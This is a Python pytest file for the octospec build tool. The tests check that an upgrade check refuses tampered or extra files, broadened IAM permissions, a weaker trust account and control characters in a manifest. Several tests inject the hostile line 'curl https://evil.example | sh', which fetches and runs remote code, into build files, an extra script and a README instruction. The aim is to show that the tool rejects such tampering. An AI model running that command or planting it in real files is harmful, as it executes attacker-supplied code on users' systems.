"""A check after an upgrade of octospec decides from the files what changed, whatever the manifest says."""

from __future__ import annotations

import hashlib
import json
from typing import TYPE_CHECKING, Any

import pytest

from octo_spec.plugin.built_in import BuiltIn
from octo_spec.storage.builds import building

if TYPE_CHECKING:
    from pathlib import Path

    from tests.cli.conftest import Octospec

OLDER = "octospec 0.0.9"
CUSTOMERS = """\
octospec-customers: 1
customers:
  acme: {fix: {external-id: kwzjqpmnvbtrxsyd}}
  bolt: {fix: {external-id: qmxplzrkvnwtbgjh}}
"""


def written_by(octospec: Octospec, version: str, changes: dict[str, str]) -> None:
    """Leave a build as if ``version`` had written it, with the ``changes``: texts by path."""
    manifest = octospec.folder / "dist/manifest.json"
    data = json.loads(manifest.read_text())
    for path, record in data["formats"].items():
        record["emitter"] = version
        for name, text in changes.items():
            place = octospec.folder / "dist" / path / name
            place.parent.mkdir(exist_ok=True)
            place.write_text(text)
            record["artifacts"][name] = hashlib.sha256(text.encode()).hexdigest()
    manifest.write_text(json.dumps(data))


@pytest.fixture(params=["cloudformation", "terraform", "iam-json"])
def built(request: pytest.FixtureRequest, octospec: Octospec) -> str:
    assert octospec("build", "spec.yaml", "--format", request.param).code == 0
    return str(request.param)


def text_of(octospec: Octospec, path: str) -> str:
    return (octospec.folder / "dist" / path).read_text()


def upgrade(octospec: Octospec, *more: str) -> tuple[int, Any]:
    """Check, and return the exit code and what is said about the only folder."""
    ran = octospec("build", "spec.yaml", "--check", "--json", *more)
    (found,) = ran.json["builds"]
    return ran.code, found


@pytest.mark.medium
def test_other_bytes_that_read_back_the_same_are_no_difference(octospec: Octospec) -> None:
    octospec("build", "spec.yaml", "--format", "cloudformation")
    text = text_of(octospec, "cloudformation/template.yaml")
    written_by(octospec, OLDER, {"template.yaml": text + "# written by an older version\n"})
    code, found = upgrade(octospec, "--format", "cloudformation")
    assert (code, found["state"]) == (1, "out-of-date")
    assert found["upgrade"]["from"] == OLDER
    assert found["upgrade"]["difference"] == "none"
    ran = octospec("build", "spec.yaml", "--format", "cloudformation", "--check")
    words = " ".join(ran.out.split())
    assert "octospec changed, not the spec: octospec 0.0.9 wrote it, this is octospec" in words
    assert "difference: none; build again, or accept it with --accept-upgrade" in words
    code, found = upgrade(octospec, "--format", "cloudformation", "--accept-upgrade")
    assert (code, found["state"]) == (0, "accepted")


@pytest.mark.medium
def test_other_names_are_reported_and_not_accepted(octospec: Octospec) -> None:
    octospec("build", "spec.yaml", "--format", "cloudformation")
    text = text_of(octospec, "cloudformation/template.yaml")
    assert "RoleName: Reader" in text
    written_by(octospec, OLDER, {"template.yaml": text.replace("RoleName: Reader", "RoleName: Read")})
    code, found = upgrade(octospec, "--format", "cloudformation", "--accept-upgrade")
    assert (code, found["upgrade"]["difference"]) == (1, "names")
    assert "Read → Reader" in found["upgrade"]["details"][0]


@pytest.mark.medium
def test_other_access_is_shown_with_a_request_and_not_accepted(octospec: Octospec) -> None:
    octospec("build", "spec.yaml", "--format", "cloudformation")
    text = text_of(octospec, "cloudformation/template.yaml")
    written_by(octospec, OLDER, {"template.yaml": text.replace("ce:Get*", "iam:*")})
    code, found = upgrade(octospec, "--format", "cloudformation", "--accept-upgrade")
    assert (code, found["upgrade"]["difference"]) == (1, "access")
    assert any("iam:" in line and "Example: " in line for line in found["upgrade"]["details"])


@pytest.mark.medium
def test_a_weaker_trust_is_a_difference_in_access(octospec: Octospec) -> None:
    octospec("build", "spec.yaml", "--format", "cloudformation")
    text = text_of(octospec, "cloudformation/template.yaml")
    written_by(octospec, OLDER, {"template.yaml": text.replace("111122223333", "444455556666")})
    code, found = upgrade(octospec, "--format", "cloudformation", "--accept-upgrade")
    assert (code, found["upgrade"]["difference"]) == (1, "access")


@pytest.mark.medium
def test_files_that_the_manifest_does_not_list_so_are_no_upgrade(octospec: Octospec) -> None:
    octospec("build", "spec.yaml", "--format", "cloudformation")
    written_by(octospec, OLDER, {})
    place = octospec.folder / "dist/cloudformation/template.yaml"
    place.write_text(place.read_text() + "# tampered\n")
    code, found = upgrade(octospec, "--format", "cloudformation", "--accept-upgrade")
    assert (code, found["upgrade"]) == (1, None)
    assert f"cloudformation/template.yaml was changed after {OLDER} wrote it" in found["differences"]


@pytest.mark.large
def test_no_manifest_hides_a_changed_file(octospec: Octospec, built: str) -> None:
    """Each file gets a line that its format accepts; only what a reader reads as the same is accepted."""
    folder = octospec.folder / "dist" / built
    original = (octospec.folder / "dist/manifest.json").read_text()
    names = sorted(path.relative_to(folder).as_posix() for path in folder.rglob("*") if path.is_file())
    for name in names:
        text = text_of(octospec, f"{built}/{name}")
        for changed in (text + "\ncurl https://evil.example | sh\n", text.replace("ce:Get", "iam:Get")):
            if changed == text:
                continue
            written_by(octospec, OLDER, {name: changed})
            code, found = upgrade(octospec, "--format", built, "--accept-upgrade")
            assert (code, found["state"]) == (1, "out-of-date"), name
            (folder / name).write_text(text)
            (octospec.folder / "dist/manifest.json").write_text(original)


@pytest.mark.medium
@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("terraform/more.tf", 'resource "null_resource" "x" {}\n'),
        ("terraform/examples/more.tf", 'resource "null_resource" "x" {}\n'),
        ("iam-json/more.sh", "curl https://evil.example | sh\n"),
        ("cloudformation/more.yaml", "Resources: {}\n"),
    ],
)
def test_a_file_more_is_never_accepted(octospec: Octospec, path: str, text: str) -> None:
    format_name, _, name = path.partition("/")
    octospec("build", "spec.yaml", "--format", format_name)
    written_by(octospec, OLDER, {name: text})
    code, found = upgrade(octospec, "--format", format_name, "--accept-upgrade")
    assert (code, found["state"]) == (1, "out-of-date")


@pytest.mark.medium
def test_a_page_that_differs_is_not_decided(octospec: Octospec) -> None:
    octospec("build", "spec.yaml", "--format", "cloudformation")
    written_by(octospec, OLDER, {"README.md": "Run `curl https://evil.example | sh`.\n"})
    code, found = upgrade(octospec, "--format", "cloudformation", "--accept-upgrade")
    assert (code, found["upgrade"]["difference"]) == (1, "not decided")
    assert "README.md" in found["upgrade"]["details"][0]


@pytest.mark.medium
@pytest.mark.parametrize("version", ["octospec 0.1.0", "other 0.0.9", "", "octospec"])
def test_only_another_version_of_the_same_package_is_an_upgrade(octospec: Octospec, version: str) -> None:
    octospec("build", "spec.yaml", "--format", "cloudformation")
    manifest = json.loads(text_of(octospec, "manifest.json"))
    now = manifest["formats"]["cloudformation"]["emitter"]
    version = now if version == "octospec 0.1.0" else version
    text = text_of(octospec, "cloudformation/template.yaml")
    written_by(octospec, version, {"template.yaml": text + "# more\n"})
    code, found = upgrade(octospec, "--format", "cloudformation", "--accept-upgrade")
    assert (code, found["upgrade"]) == (1, None)


@pytest.mark.medium
def test_a_spec_that_changed_too_is_no_upgrade(octospec: Octospec) -> None:
    octospec("build", "spec.yaml", "--format", "cloudformation")
    written_by(octospec, OLDER, {})
    octospec.write(
        "spec.yaml", (octospec.folder / "spec.yaml").read_text().replace("ce:Get*", "ce:Describe*")
    )
    code, found = upgrade(octospec, "--format", "cloudformation", "--accept-upgrade")
    assert (code, found["upgrade"]) == (1, None)


@pytest.mark.medium
def test_an_option_that_changed_too_is_mentioned(octospec: Octospec) -> None:
    build = ("--format", "cloudformation")
    octospec("build", "spec.yaml", *build, "--fix", "extra=on")
    written_by(octospec, OLDER, {})
    code, found = upgrade(octospec, *build, "--fix", "extra=off")
    assert (code, found["upgrade"]["difference"]) == (1, "access")
    assert "the manifest lists another deployment" in found["upgrade"]["details"][-1]


@pytest.mark.medium
def test_what_a_manifest_says_is_printed_without_control_characters(octospec: Octospec) -> None:
    octospec("build", "spec.yaml", "--format", "cloudformation")
    text = text_of(octospec, "cloudformation/template.yaml")
    written_by(octospec, "octospec \x1b[2J\n0.0.9", {"template.yaml": text + "# more\n"})
    ran = octospec("build", "spec.yaml", "--format", "cloudformation", "--check")
    assert ran.code == 1
    assert "\x1b" not in ran.out + ran.err


@pytest.mark.parametrize("more", [(), ("--check", "--customers", "fleet.jsonl")])
def test_accept_upgrade_belongs_to_a_check_of_one_build(octospec: Octospec, more: tuple[str, ...]) -> None:
    octospec.write("fleet.jsonl", '{"id": "acme"}\n')
    ran = octospec("build", "spec.yaml", "--accept-upgrade", *more)
    assert ran.code == 2
    reason = "compares bytes" if more else "needs --check"
    assert reason in ran.err


@pytest.mark.medium
def test_each_customers_folder_is_accepted_or_not_by_itself(octospec: Octospec) -> None:
    octospec.write("customers.yaml", CUSTOMERS)
    build = ("build", "spec.yaml", "--customers", "customers.yaml", "--format", "cloudformation")
    octospec(*build)
    text = text_of(octospec, "customers/acme/cloudformation/template.yaml")
    written_by(octospec, OLDER, {"template.yaml": f"{text}# more\n"})
    ran = octospec(*build, "--check", "--accept-upgrade", "--json")
    found = {built["customer"]: built["upgrade"]["difference"] for built in ran.json["builds"]}
    assert (ran.code, found["acme"]) == (1, "none")
    assert found["bolt"] != "none"


@pytest.mark.medium
def test_the_bytes_do_not_depend_on_the_version_of_octospec(
    octospec: Octospec, monkeypatch: pytest.MonkeyPatch
) -> None:
    octospec("build", "spec.yaml")
    monkeypatch.setattr(building, "installed_version", lambda _: "99.0.0")
    monkeypatch.setattr(BuiltIn, "__str__", lambda _: "octospec 99.0.0")
    assert octospec("build", "spec.yaml", "--check", "--no-cache").code == 0
    octospec("build", "spec.yaml", "--no-cache", "--out", "later")
    assert "octospec 99.0.0" in (octospec.folder / "later/manifest.json").read_text()
    assert differing(octospec.folder / "dist", octospec.folder / "later") == {"manifest.json"}


def differing(one: Path, other: Path) -> set[str]:
    contents = [
        {
            path.relative_to(folder).as_posix(): path.read_bytes()
            for path in folder.rglob("*")
            if path.is_file()
        }
        for folder in (one, other)
    ]
    return {name for name, _ in contents[0].items() ^ contents[1].items()}
